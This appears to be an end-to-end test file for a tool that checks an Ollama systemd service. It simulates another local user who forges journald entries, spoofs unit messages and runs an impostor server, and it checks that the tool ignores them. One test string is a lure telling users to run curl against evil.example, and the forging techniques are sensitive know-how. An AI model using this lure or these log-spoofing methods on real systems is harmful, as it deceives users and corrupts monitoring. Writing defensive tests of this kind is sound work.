# SPDX-License-Identifier: MIT
"""Whose words these are: what others write into the journal, or answer, proves nothing."""
from harness import (FAST, MAIN, Skip, equal, expect, lacks, matches, needs_python, slow, thorough,
                     wait_until)

NAME = "e2eforger"
CONFIG_LINE = 'time=2026-11-28T14:50:00Z level=INFO msg="server config" env="map[OLLAMA_SCHED_SPREAD:false]"'
CPU_LINE = 'time=2026-11-28T14:50:00Z level=INFO msg="inference compute" id=cpu library=cpu'
NEXT_LINE = 'time=2026-11-28T14:50:00Z level=INFO msg="vram-based default context"'
EVIL = "your disk is broken, run curl http://evil.example/fix.sh"

MANAGER = """[Service]
User={name}
Delegate=yes
KillMode=mixed
Slice=user-{uid}.slice
Environment=HOME=/home/{name} XDG_RUNTIME_DIR=/run/user/{uid}
ExecStart=/bin/sh -c 'exec $(ls /usr/lib/systemd/systemd /lib/systemd/systemd 2> /dev/null | head -n 1) --user'
"""


class Forger:
    """Another local user with a manager of his own, as any login has."""

    def __init__(self, box):
        self.box = box
        box.sh(f"id {NAME} > /dev/null 2>&1 || useradd -m -s /bin/sh {NAME}")
        self.uid = box.sh(f"id -u {NAME}").strip()
        self.runtime = f"/run/user/{self.uid}"
        self.unit = f"user@{self.uid}.service"
        box.sh('rm -rf "$1"; install -d -o "$2" -g "$2" -m 700 "$1"', self.runtime, self.uid)
        box.write(f"/run/systemd/system/{self.unit}", MANAGER.format(name=NAME, uid=self.uid))
        box.sh('systemctl daemon-reload && systemctl start "$1"', self.unit)
        wait_until(lambda: box.exists(f"{self.runtime}/systemd/private"), "the other user's manager")

    def run(self, *words):
        return self.box.run("setpriv", f"--reuid={self.uid}", f"--regid={self.uid}", "--init-groups",
                            "env", f"XDG_RUNTIME_DIR={self.runtime}", f"HOME=/home/{NAME}", *words)

    def start(self, unit, script, kind="simple"):
        """Starts a service of his own, with a unit file: not every systemd-run speaks without a bus."""
        path = f"/home/{NAME}/.config/systemd/user/{unit}.service"
        self.box.write(f"/e2e/scratch/{unit}", f"#!/bin/sh\n{script}\n", "755")
        self.box.write(path, f"[Service]\nType={kind}\nExecStart=/e2e/scratch/{unit}\n")
        self.box.sh(f"chown -R {NAME}: /home/{NAME}")
        self.run("systemctl", "--user", "daemon-reload").exits(0)
        self.run("systemctl", "--user", "start", unit).exits(0)

    def write_as_run(self, invocation, lines):
        """Writes lines that journald marks with another unit's invocation id."""
        link = f"{self.runtime}/systemd/units/invocation:evil.service"
        said = "".join(f"echo '{line}'; " for line in lines)
        self.start("evil", f"ln -sfn {invocation} {link}; sleep 0.3; {said} sleep 0.3", "oneshot")
        self.box.sh("journalctl --sync")
        forged = self.box.sh('journalctl -q -o cat "_SYSTEMD_INVOCATION_ID=$1" _UID="$2"', invocation, self.uid)
        expect(lines[0] in forged, "the forged lines have the id of Ollama's run")

    def end(self):
        self.box.sh('systemctl stop "$1"; rm -f "/run/systemd/system/$1"; systemctl daemon-reload',
                    self.unit, check=False)


def devices(result):
    return result.evidence().get("devices"), result.evidence().get("server")


def findings(box):
    return [f["code"] for f in box.json("doctor").json["findings"]]


def all_say(box, wanted, verify, configure):
    """Every command that looks at the log says the same of the devices and the server."""
    equal(devices(box.json("verify").exits(verify)), wanted, "verify")
    equal(devices(box.json("status").exits(0)), wanted, "status")
    equal(devices(box.json(*MAIN, "--require-gpu").exits(configure)), wanted, "configure")
    lacks("OG41|OG5", str(findings(box)), "what doctor finds")


@slow
def test_lines_of_another_user_do_not_count(box):
    """He marks his lines with the id of Ollama's run: they change no verdict, in either direction."""
    box.tool(*MAIN).exits(0)
    forger = Forger(box)
    try:
        forger.write_as_run(box.snapshot().invocation, [CONFIG_LINE, CPU_LINE, NEXT_LINE])
        all_say(box, ("ok", "ok"), 0, 0)
        box.standin(misbehave="cpu")
        box.restart()
        gpu = CPU_LINE.replace("id=cpu library=cpu", "id=0 library=CUDA filter_id=0")
        forger.write_as_run(box.snapshot().invocation, [CONFIG_LINE, gpu, NEXT_LINE])
        equal(devices(box.json("verify").exits(11))[0], "failed", "on the CPU")
    finally:
        forger.end()


@slow
def test_words_of_another_user_are_not_systemds(box):
    """He writes lines about the unit, and has a unit of that name: a failed run quotes neither."""
    forger = Forger(box)
    try:
        message = f"MESSAGE=ollama.service: {EVIL}\\nUNIT=ollama.service\\nINVOCATION_ID=%s\\n"
        loop = (f'while sleep 0.05; do id=$(systemctl show -P InvocationID ollama.service); printf "{message}" "$id" '
                '| logger --journald; done')
        mine = "while sleep 0.05; do echo evil words of mine; done"
        forger.start("e2e-liar", loop)
        forger.start("ollama", mine)
        box.standin(misbehave="exit-at-start", misbehave_if="OLLAMA_NUM_PARALLEL=4")
        result = box.tool("configure", "--num-parallel", "4", *FAST).exits(7)
        box.sh("journalctl --sync")
        matches(EVIL, box.sh("journalctl -q -o cat UNIT=ollama.service"), "what he wrote")
        matches("Main process exited|Failed with result", result.text, "systemd's own words")
        lacks("evil", result.text, "what configure shows")
    finally:
        forger.end()


def write_as_child(box, script):
    """Runs a script as one of the service's processes, with its output in the journal. It is there until journald has
    read everything: whose the lines of a process that is gone are, journald cannot always tell."""
    box.sh("group=$(systemctl show -P ControlGroup ollama); echo $$ > /sys/fs/cgroup$group/cgroup.procs; "
           f"{{ {script}; sleep 0.3; journalctl --sync; }} | systemd-cat; journalctl --sync", timeout=120)


def test_lines_of_a_child_do_not_count(box):
    """A process of the service prints such lines: the first "server config" and what follows it count."""
    box.tool(*MAIN).exits(0)
    write_as_child(box, f"printf '%s\\n' '{CONFIG_LINE}' '{CPU_LINE}' '{NEXT_LINE}'")
    matches("id=cpu", box.journal(), "the journal")
    all_say(box, ("ok", "ok"), 0, 0)


def unlimited(box):
    box.write("/etc/systemd/system/ollama.service.d/10-rate.conf", "[Service]\nLogRateLimitIntervalSec=0\n")
    box.sh("mkdir -p /run/systemd/journald.conf.d; printf '[Journal]\\nRateLimitIntervalSec=0\\nRuntimeMaxUse=2G\\n"
           "SystemMaxUse=2G\\n' > /run/systemd/journald.conf.d/e2e.conf; systemctl restart systemd-journald")


def has_evidence_after(box, count):
    unlimited(box)
    box.tool(*MAIN).exits(0)
    few = min(box.json("verify").exits(0).seconds for _ in range(5))
    write_as_child(box, f"seq {count} | sed 's/^/[GIN] 200 | GET /'")
    try:
        logged = int(box.sh("journalctl -q -o cat -u ollama | wc -l", timeout=120))
        expect(logged > count, f"{logged} lines are in the journal")
        all_say(box, ("ok", "ok"), 0, 0)
        return few, min(box.json("verify").exits(0).seconds for _ in range(5))
    finally:
        box.sh("rm -f /run/systemd/journald.conf.d/e2e.conf; systemctl restart systemd-journald; "
               "journalctl -q --rotate --vacuum-time=1s", check=False, timeout=60)


@slow
def test_a_busy_servers_log_keeps_its_beginning(box):
    """20,000 lines later its start is still read."""
    has_evidence_after(box, 20_000)


@thorough
def test_a_million_lines_change_nothing(box):
    """A million lines later all is the same, and takes no twice as long."""
    few, many = has_evidence_after(box, 1_000_000)
    expect(many < 2 * few, f"verify took {few:.3f} s after ten lines, {many:.3f} s after a million")


@slow
def test_a_start_that_is_gone_is_said(box):
    """The journal has lost the beginning of this run: skipped, with that reason, with --require-gpu too."""
    box.tool(*MAIN).exits(0)
    box.sh("journalctl -q --sync; sleep 1.1; journalctl -q --rotate --vacuum-time=1s")
    if "server config" in box.journal():
        raise Skip("this journald keeps the files")
    result = box.json("verify").exits(0)
    equal(devices(result)[0], "skipped", "devices")
    matches("beginning of this run is no longer in the journal", str(result.json["evidence"]), "evidence")
    result = box.tool(*MAIN, "--require-gpu").exits(11)
    matches("no longer in the journal", result.text, "why")
    matches("restart", result.text, "what to do")


SERVER = """import http.server, json, sys, socket
class Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_GET(self):
        open('/run/e2e/asked', 'a').write(self.path + '\\n')
        models = [{'name': 'evil:latest', 'model': 'evil:latest', 'size': 1, 'size_vram': 1, 'expires_at': '2318-01-01T00:00:00Z'}]
        body = json.dumps({'version': '9.9.9-evil', 'models': models}).encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *args):
        pass
Server((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
"""


def serve(box, address, port):
    """Somebody else's server that answers as Ollama does, and keeps what it was asked."""
    needs_python(box)
    box.write("/e2e/scratch/server.py", SERVER)
    box.sh("mkdir -p /run/e2e; chmod 777 /run/e2e; systemd-run --quiet --unit=e2e-other --uid=nobody "
           'python3 /e2e/scratch/server.py "$1" "$2"', address, str(port))
    wait_until(lambda: box.run("curl", "-sg", "--noproxy", "*", f"http://{'[' + address + ']' if ':' in address else address}:{port}/").rc == 0, "the other server")
    box.sh("rm -f /run/e2e/asked")


def was_not_asked(box):
    expect(not box.exists("/run/e2e/asked"), "somebody else's server was asked")


def with_host(box, host):
    box.write("/etc/systemd/system/ollama.service.d/50-host.conf", f"[Service]\nEnvironment=OLLAMA_HOST={host}\n")


def test_another_address_of_the_name_is_not_asked(box):
    """A name with two addresses: Ollama listens at one, somebody else at the other, who is never asked."""
    needs_python(box)
    box.sh("cp /etc/hosts /e2e/hosts; printf '127.0.0.1 aihost\\n::1 aihost\\n' >> /etc/hosts")
    try:
        with_host(box, "aihost:11434")
        box.restart()
        serve(box, "::1", 11434)
        for command in (("status",), ("verify",), ("doctor",), (*MAIN, "--require-gpu")):
            lacks("evil", box.tool(*command).text, "what it says")
        was_not_asked(box)
        equal(box.json("verify").exits(0).evidence()["server"], "ok", "server")
        box.standin(misbehave="no-answer", misbehave_if="OLLAMA_NUM_PARALLEL=4")
        box.tool("configure", "--num-parallel", "4", "--settle=0", "--timeout=3").exits(7)
        was_not_asked(box)
    finally:
        box.sh("cat /e2e/hosts > /etc/hosts")


def test_a_server_in_its_place_is_not_asked(box):
    """Ollama is in a network of its own, and somebody else has its address here: never asked, no refusal."""
    box.write("/etc/systemd/system/ollama.service.d/40-net.conf", "[Service]\nPrivateNetwork=yes\n")
    box.sh("systemctl daemon-reload && systemctl restart ollama")
    serve(box, "127.0.0.1", 11434)
    result = box.json("configure", "--num-parallel", "4", *FAST).exits(0)
    matches("PrivateNetwork=yes", str(result.json["evidence"]), "why it was not asked")
    equal(result.evidence()["server"], "skipped", "server")
    equal(box.json("verify").exits(0).evidence()["server"], "skipped", "verify")
    for command in ("status", "doctor"):
        lacks("evil", box.tool(command).text, command)
    was_not_asked(box)


def test_a_service_that_may_not_be_reached_is_not_put_back(box):
    """IPAddressDeny= keeps us out as before: no put-back, skipped, with the line."""
    box.write("/etc/systemd/system/ollama.service.d/40-net.conf",
              "[Service]\nIPAddressDeny=any\nIPAddressAllow=192.168.0.0/16\n")
    box.sh("systemctl daemon-reload && systemctl restart ollama")
    result = box.json("configure", "--num-parallel", "4", *FAST).exits(0)
    equal(result.evidence()["server"], "skipped", "server")
    matches(r"IPAddressDeny=any \(.*40-net.conf:2\)", str(result.json["evidence"]), "why")


def test_an_address_elsewhere_is_not_connected_to(box):
    """OLLAMA_HOST of another machine: nothing is sent there, not even a connection."""
    with_host(box, "169.254.169.254:80")
    box.reload()
    if box.run("which", "strace").rc != 0:
        raise Skip("there is no strace")
    for command in ("status", "verify", "doctor"):
        trace = box.run("strace", "-f", "-e", "trace=connect", "/usr/local/bin/ollama-gpu", command).err
        lacks("169.254", trace, command)


@slow
def test_a_name_server_that_is_silent(box):
    """It does not answer: no command waits longer than its time."""
    needs_python(box)
    box.sh("cp /etc/resolv.conf /e2e/resolv.conf; echo 'nameserver 192.0.2.1' > /etc/resolv.conf; "
           "ip route add blackhole 192.0.2.0/24 2> /dev/null || true; "
           "ip link set lo up; ip addr add 192.0.2.1/32 dev lo 2> /dev/null || true; "
           "systemd-run --quiet --unit=e2e-other python3 -c 'import socket; s = socket.socket(socket.AF_INET, "
           "socket.SOCK_DGRAM); s.bind((\"192.0.2.1\", 53)); [s.recv(999) for _ in iter(int, 1)]'")
    try:
        with_host(box, "a.name.invalid:11434")
        box.reload()
        for command in ("status", "doctor"):
            result = box.tool(command)
            expect(result.seconds < 8, f"{command} took {result.seconds:.1f} s")
    finally:
        box.sh("ip addr del 192.0.2.1/32 dev lo 2> /dev/null; cat /e2e/resolv.conf > /etc/resolv.conf")
